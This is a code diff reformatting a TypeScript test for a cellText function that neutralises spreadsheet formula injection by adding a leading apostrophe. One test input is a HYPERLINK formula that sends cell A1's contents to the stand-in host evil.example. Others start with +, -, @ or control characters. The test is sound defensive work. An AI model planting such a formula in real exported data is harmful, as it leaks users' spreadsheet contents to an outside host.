@@ -1,17 +1,13 @@
 import { cellText, fromCellText, MAX_CELL_CHARS } from '../../cloudfunctions/common/domain/cell-text';
 
 describe('cellText', () => {
-  test.each([
-    ['=HYPERLINK("http://evil.example/?"&A1,"点我")'],
-    ['+1'],
-    ['-1'],
-    ['@SUM(A1:A2)'],
-    ['\t=1+1'],
-    ['\r=1+1'],
-  ])('%j starts with an apostrophe, so no spreadsheet reads it as a formula', (text) => {
-    expect(cellText(text)).toBe(`'${text}`);
-    expect(fromCellText(cellText(text))).toBe(text);
-  });
+  test.each([['=HYPERLINK("http://evil.example/?"&A1,"点我")'], ['+1'], ['-1'], ['@SUM(A1:A2)'], ['\t=1+1'], ['\r=1+1']])(
+    '%j starts with an apostrophe, so no spreadsheet reads it as a formula',
+    (text) => {
+      expect(cellText(text)).toBe(`'${text}`);
+      expect(fromCellText(cellText(text))).toBe(text);
+    },
+  );
 
   test.each(['已按要求公开', '1+1=2', 'a-b', '邮箱 someone@example.com', "'已有撇号", ' =1'])('%j is written as it is', (text) => {
     expect(cellText(text)).toBe(text);
